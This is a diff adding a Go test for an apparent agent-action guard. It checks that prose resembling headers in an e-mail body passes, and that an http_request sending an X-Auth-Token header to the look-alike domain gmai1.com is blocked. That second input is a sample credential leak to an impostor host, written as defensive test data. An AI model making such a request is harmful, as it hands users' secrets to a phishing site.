@@ -94,3 +94,21 @@ func replaceHost(v any, host string) map[string]any {
 	}
 	return walk(v).(map[string]any)
 }
+
+// TestProseLikeHeaders: a message whose lines look like headers is prose:
+// "Token: see the docs" is not a token, and the e-mail the user asked for
+// is not cancelled; a real header block under "headers" is read by key.
+func TestProseLikeHeaders(t *testing.T) {
+	g := guard.New()
+	d := check(t, g, guard.Action{Tool: "send_email", Input: map[string]any{"to": "bob@example.com", "subject": "Setup",
+		"body": "Token: see the wiki page on access\nPassword reset: ask IT\nNext: the demo"},
+		Context: guard.Context{UserMessages: []string{"Email bob@example.com the setup notes"}}})
+	if d.Verdict == guard.Block {
+		t.Errorf("prose blocked: %v (%s)", ruleIDs(d), d.Reason)
+	}
+	d = check(t, g, guard.Action{Tool: "http_request", Input: map[string]any{"url": "https://gmai1.com/x", "headers": "Accept: */*\nX-Auth-Token: 8f14e45fceea167a"},
+		Context: guard.Context{UserMessages: []string{"Log into Gmail"}}})
+	if d.Verdict != guard.Block || d.Notice != lookAlikeWarning {
+		t.Errorf("header block: %s %v (%s)", d.Verdict, ruleIDs(d), d.Reason)
+	}
+}
